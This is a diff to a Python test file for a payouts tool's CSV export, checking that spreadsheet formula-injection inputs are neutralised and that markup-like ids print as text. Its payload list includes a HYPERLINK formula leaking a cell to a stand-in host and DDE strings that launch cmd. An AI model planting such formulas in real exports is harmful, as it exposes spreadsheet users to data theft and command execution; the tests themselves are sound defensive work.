@@ -20,7 +20,7 @@ from sorae_payouts_tests.factory import NOW, OCT, add_affiliate, add_commission
 from sorae_payouts_tests.ingest.helpers import AFFILIATE_HEADER, COMMISSION_HEADER, write_csv
 
 # The payloads of issue 9, and the other starts OWASP lists.
-PAYLOADS = ['=HYPERLINK("http://x/?leak="&A1,"y")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
+PAYLOADS = ['=HYPERLINK("http://x/?leak="&A1,"y")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'![/x]",
             "\t=1+1", "\r=1+1"]
 
 
@@ -55,6 +55,8 @@ def test_batch_export_holds_no_formula(engine, ledger_url, tmp_path, monkeypatch
     rows = {r["affiliate_id"]: r for r in csv.DictReader(out.open(newline=""))}
     assert set(rows) == {"'" + p for p in PAYLOADS[:4]} | {"plain"}
     assert rows["'@SUM(1+1)"]["amount_minor"] == "10002" and rows["plain"]["amount"] == "70.00"
+    shown = CliRunner().invoke(app, ["batch", "show", "2026-10"])  # ids with rich markup print as text
+    assert shown.exit_code == 0 and "[/x]" in shown.output
 
 
 def test_rejects_files_hold_no_formula(engine, tmp_path):
